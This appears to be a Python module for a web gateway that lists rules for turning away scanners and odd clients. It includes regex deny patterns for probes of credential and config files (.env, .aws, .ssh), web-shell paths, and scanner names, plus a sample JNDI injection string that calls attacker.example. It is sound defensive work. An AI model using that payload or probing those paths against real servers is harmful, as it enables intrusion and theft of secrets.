"""The known rules against scanners and odd clients, as data. Each says why it is there and what it is meant for.

Expressions are RE2 and fit the whole of what they are held against, in any case. The path has no query. Rules are few
and narrow: a rule that refuses people costs more than a scanner that gets a 404.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from kronborg.gateway.content_model import BotRule, Bots
from kronborg.gateway.pattern_model import Pattern


@dataclass(frozen=True, slots=True)
class KnownRule:
    """One rule. `path` and `agent` are expressions; `absent` is a header that must be missing, `present` one that must
    be there, with this `value`; `methods` narrows."""

    id: str
    why: str
    example: str
    path: str = ""
    agent: str = ""
    absent: str = ""
    present: str = ""
    value: str = ""
    methods: tuple[str, ...] = ()


KNOWN: tuple[KnownRule, ...] = (
    KnownRule(
        "hidden-files",
        "Version control, credentials and settings that were published by mistake.",
        "/.git/config",
        path=r".*/\.(?:git|svn|hg|bzr|env|aws|ssh|htaccess|htpasswd|ds_store|vscode|idea|npmrc|docker)(?:[/.].*)?",
    ),
    KnownRule(
        "cms-login",
        "Sign-in pages and doors of content management systems.",
        "/wp-login.php",
        path=r".*/(?:wp-login\.php|wp-admin|wp-includes|wp-content|xmlrpc\.php|administrator/index\.php)(?:/.*)?",
    ),
    KnownRule(
        "database-admin",
        "Administration pages of databases.",
        "/phpmyadmin/index.php",
        path=r".*/(?:phpmyadmin|pma|adminer(?:-[0-9.]+)?\.php|mysqladmin)(?:/.*)?",
    ),
    KnownRule(
        "shells",
        "Web shells, and doors of frameworks that ran what they were sent.",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        path=r".*/(?:eval-stdin\.php|shell\.php|c99\.php|r57\.php|cgi-bin/.*\.(?:sh|cgi|pl)|boaform/.*|hnap1)(?:/.*)?",
    ),
    KnownRule(
        "dumps",
        "Backups and dumps left in a web folder.",
        "/backup.sql.gz",
        path=r".*/(?:backup|dump|database|db|site|www)\.(?:sql|bak|tar|zip|tgz|sql\.gz|tar\.gz)",
    ),
    KnownRule(
        "inner-pages",
        "Pages of servers and frameworks for their operators.",
        "/actuator/heapdump",
        path=r".*/(?:server-status|server-info|actuator/(?:env|heapdump|gateway.*|jolokia)|manager/html|console/login)",
    ),
    KnownRule(
        "scanners",
        "Scanners that say who they are.",
        "sqlmap/1.8#stable",
        agent=r".*(?:sqlmap|nikto|nuclei|masscan|zgrab|gobuster|dirbuster|wpscan|acunetix|nessus|openvas|w3af|feroxbuster).*",
    ),
    KnownRule(
        "no-agent",
        "A client that does not say what it is; libraries and browsers always do.",
        "(no User-Agent header)",
        absent="user-agent",
    ),
    KnownRule(
        "odd-agent",
        "A User-Agent that is empty, or an attack in itself.",
        "${jndi:ldap://attacker.example/a}",
        agent=r"\s*|-|.*(?:\$\{|<script|\(\) *\{).*",
    ),
    KnownRule(
        "body-on-get",
        "A GET or HEAD with a body, which means nothing (RFC 9110 section 9.3.1) and is how requests are smuggled.",
        "GET with Content-Length: 5",
        present="content-length",
        value="0*[1-9].*",
        methods=("GET", "HEAD"),
    ),
)
"""Every known rule, in the order in which they are told."""

IDS = frozenset(rule.id for rule in KNOWN)
PREFIX = "bot_rule:"
"""What the reasons of refusals by these rules begin with; the id follows."""


def rules_for(bots: Bots, paths: tuple[str, ...] = ()) -> tuple[KnownRule, ...]:
    """The rules that are asked: the known ones that are not skipped, then the operator's own.

    `paths` are what routes declare: a rule that fits one of them is left out, for that path is meant to be called.
    """
    own = (_own(rule) for rule in bots.rules)
    kept = (rule for rule in (*KNOWN, *own) if rule.id not in bots.skip)
    return tuple(rule for rule in kept if not rule.path or not any(_fits(rule.path, path) for path in paths))


def declared(literal: str, pattern: Pattern | None, value: str) -> tuple[str, ...]:
    """The texts that stand for a declared path: as it is written, with and without something behind it."""
    stem = (literal if pattern is not None else value).rstrip("/")
    return (stem, f"{stem}/", f"{stem}/x") if stem else ()


def _own(rule: BotRule) -> KnownRule:
    return KnownRule(
        rule.id, "A rule of the operator.", "", path=rule.path or "", agent=rule.agent or "", present=rule.header or ""
    )


def _fits(expression: str, path: str) -> bool:
    try:
        return re.fullmatch(expression, path, re.IGNORECASE) is not None
    except re.error:
        return False
